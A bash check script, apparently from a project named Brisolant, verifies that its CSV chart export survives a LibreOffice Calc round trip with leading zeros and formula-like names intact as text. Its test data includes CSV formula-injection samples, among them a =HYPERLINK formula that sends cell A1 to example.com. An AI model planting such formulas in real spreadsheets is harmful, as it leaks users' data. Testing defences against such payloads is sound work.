#!/usr/bin/env bash
# Opens a CSV chart the way a spreadsheet user does and checks that nothing in it changes: the
# chart goes through LibreOffice Calc, headless, with Calc's default CSV import, and is saved back
# as CSV, values rather than formulas; every field must come back as Brisolant wrote it, as text.
# Nine switch digits written together would come back as a number without their leading zeros
# (010000000 as 10000000), which is why the CSV writes them with blanks between; a name from a
# file such as =HYPERLINK("…","Spot") would come back as "Spot", a live link in Calc, which is
# why the CSV writes such a field after an apostrophe.
#
# Not part of the test command: Calc is about 80 MB in some 50 Debian packages, about half a
# minute to install on every fresh machine, for a check that can only change when the CSV's form
# does, and the CSV's bytes are pinned by tests/writers and tests/cli. Run it after changing
# writers/csvchart.*; it installs Calc (libreoffice-calc-nogui) where it is missing.
#
#   scripts/check-spreadsheet.sh [build-dir]       default build/dev
set -euo pipefail
cd "$(dirname "$0")/.."
build=${1:-build/dev}
if ! command -v soffice >/dev/null; then
    sudo=()
    if [ "$(id -u)" -ne 0 ]; then
        sudo=(sudo)
    fi
    "${sudo[@]}" apt-get update -qq
    "${sudo[@]}" env DEBIAN_FRONTEND=noninteractive apt-get install -y -qq \
        --no-install-recommends libreoffice-calc-nogui
fi

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
# Leading zeros in every switch pattern Calc could take for a number, a number with a letter, a
# name with quotes and one with a comma; names and a number that start a formula, and a name
# that starts with an apostrophe of its own.
printf '%s\n' 'FID,Name,Universe,Address,Channels' '101,Spot 1,1,2,16' '102,Spot 2,1,256,16' \
    '7a,"12"" Fresnel ""Front""",2,1,1' '8,"Wash, left",2,100,1' '9,Dimmer,3,511,1' \
    '10,"=HYPERLINK(""http://example.com/?""&A1,""Spot"")",4,1,1' '11,+1+1,4,2,1' \
    '-12,-Spot,4,3,1' '13,@SUM(A1),4,4,1' "14,'Spot,4,5,1" >"$work/rig.csv"
"$build/app/Brisolant" --chart-patch "$work/rig.csv" --output "$work/chart.csv"
for field in HYPERLINK +1+1 -12 -Spot @SUM "'Spot"; do
    if ! grep -qF -- "$field" "$work/chart.csv"; then
        echo "check-spreadsheet: the chart lacks $field, a field to check:" >&2
        cat "$work/chart.csv" >&2
        exit 1
    fi
done
soffice -env:UserInstallation="file://$work/profile" --headless \
    --convert-to 'csv:Text - txt - csv (StarCalc):44,34,76' --outdir "$work/calc" \
    "$work/chart.csv" >/dev/null 2>&1
if ! diff -u "$work/chart.csv" "$work/calc/chart.csv"; then
    echo "check-spreadsheet: Calc changed the chart (above: - as written, + as Calc read it)" >&2
    exit 1
fi
echo "check-spreadsheet: Calc reads every field of the CSV chart as written, as text"
